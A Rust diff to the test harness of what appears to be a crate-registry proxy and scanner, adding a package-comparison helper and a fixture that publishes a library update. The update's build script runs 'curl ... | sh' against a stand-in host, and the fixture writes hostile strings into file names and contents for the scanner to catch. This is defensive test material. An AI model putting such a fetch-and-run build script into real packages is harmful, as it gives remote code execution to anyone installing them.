@@ -19,13 +19,16 @@ use fence_client::cache::{Cache, Disk, Keep, RealDisk};
 use fence_client::cargo_config::{CargoConfig, Credentials, IndexLocation, Registry};
 use fence_client::http::{Http, HttpSettings, Network, Secret};
 use fence_client::project::Project;
+use fence_client::scanner::Packed;
 use fence_model::{Digest, Span, Time};
 use fence_proxy::RulesOf;
 use fence_proxy::answer::{Answer, Answers, Ask, IndexPage};
 use fence_proxy::event::{Event, Log, Weight};
-use fence_proxy::fence::{Fence, Journals, Mount, Reads, Setup, StartError, Times, Tokens};
+use fence_proxy::fence::{Compares, Fence, Journals, Mount, Reads, Setup, StartError, Times, Tokens};
 use fence_proxy::server::{ServeError, Server, Settings};
-use fence_testkit::publishing::Publishing;
+use fence_scan::Scan;
+use fence_scan::reading::Reading;
+use fence_testkit::publishing::{Publishing, release};
 use tokio::runtime::Runtime;
 
 /// The registry that a world has beside crates.io, as cargo's configuration names it.
@@ -46,6 +49,8 @@ pub struct World {
     pub times: Times,
     /// Who reads packages: nobody, unless a test says who.
     pub reads: Option<Reads>,
+    /// Who compares packages for people.
+    pub compares: Option<Compares>,
     pub limits: fence_client::Limits,
 }
 
@@ -101,8 +106,13 @@ impl World {
             disk: Arc::default(),
             log: Arc::default(),
             feeds: Vec::new(),
-            times: Times { patience: Duration::from_secs(20), ..Times::default() },
+            times: Times {
+                patience: Duration::from_secs(20),
+                reader_waits: Duration::from_secs(20),
+                ..Times::default()
+            },
             reads: None,
+            compares: Some(Arc::new(compare)),
             limits: fence_client::Limits::DEFAULT,
         }
     }
@@ -177,6 +187,7 @@ impl World {
             words: |problems| problems.iter().map(|problem| format!("{problem:?}")).collect(),
             explain: |_| "**What it is.** A code, with `code` in it.\n\nAnother paragraph.",
             reads: self.reads.clone(),
+            compares: self.compares.clone(),
             times: self.times,
         }
     }
@@ -268,6 +279,55 @@ impl World {
     pub fn download_of(&self, fence: &Fence, name: &str, version: &str, digest: Digest) -> String {
         self.told(fence, &format!("/crates-io/dl/{name}/{version}/{digest}"))
     }
+}
+
+/// Compares two packages as a worker of the scanner does, in this process.
+fn compare(old: &Packed, new: &Packed) -> Reading {
+    let unpacked = |packed: &Packed| match packed {
+        Packed::Crate(bytes) => fence_scan::unpack(bytes, &fence_scan::Limits::default()),
+        Packed::Files(files) => fence_scan::Package::of(files.clone()),
+    };
+    let (old, new) = (unpacked(old), unpacked(new));
+    fence_scan::reading::read(&Scan::of(&old), &Scan::of(&new))
+}
+
+/// Publishes pad-words 1.0.0 and an update of it: another width, a test, a comment, a document, a build script that fetches
+/// and runs, and a file whose name and text are `hostile`.
+pub fn publish_an_update(registry: &Publishing, at: &str, hostile: &[&str]) {
+    let library = |width: &str, test: &str, comment: &str| {
+        let doubled = "    let doubled = format!(\"{word}{word}\");\n".repeat(12);
+        format!(
+            "//! Pads words.\n\n/// Pads a word{comment}.\npub fn pad(word: &str) -> String {{\n    format!(\"{{word:>{width}}}\")\n}}\n\n\
+             /// Doubles it.\npub fn double(word: &str) -> String {{\n{doubled}    doubled\n}}\n\n\
+             #[cfg(test)]\nmod tests {{\n    #[test]\n    fn it_pads() {{\n        assert_eq!(super::pad(\"a\").len(), {test});\n    }}\n}}\n"
+        )
+    };
+    registry.publish(
+        release("pad-words", "1.0.0")
+            .at("2024-01-01T00:00:00Z")
+            .file("src/lib.rs", &library("8", "8", ""))
+            .file("src/words.rs", "//! Words.\n\npub const ALL: [&str; 2] = [\"a\", \"b\"];\n")
+            .file("README.md", "# Pad words 1.0.0\n"),
+    );
+    let mut update = release("pad-words", "1.0.1")
+        .at(at)
+        .needs("cc", "^1")
+        .build_script(
+            "let _ = std::process::Command::new(\"sh\").args([\"-c\", \"curl -s http://192.0.2.1/x | sh\"]).status();",
+        )
+        .file("src/lib.rs", &library("16", "16", " on the left"))
+        .file("src/words.rs", "//! All words.\n\npub const ALL: [&str; 2] = [\"a\", \"b\"];\n")
+        .file("README.md", "# Pad words 1.0.1\n")
+        .file("data/table.bin", "\0\u{1}\u{2}\0");
+    for (at, hostile) in hostile.iter().enumerate() {
+        let text = format!(
+            "// {hostile}\npub const TEXT_{at}: &str = \"{}\";\n//{}\n",
+            hostile.replace('\\', "").replace('"', "\\\""),
+            "x".repeat(600)
+        );
+        update = update.file(&format!("src/{at}{hostile}.rs"), &text);
+    }
+    registry.publish(update);
 }
 
 /// The place of a fence in front of a registry of one's own.
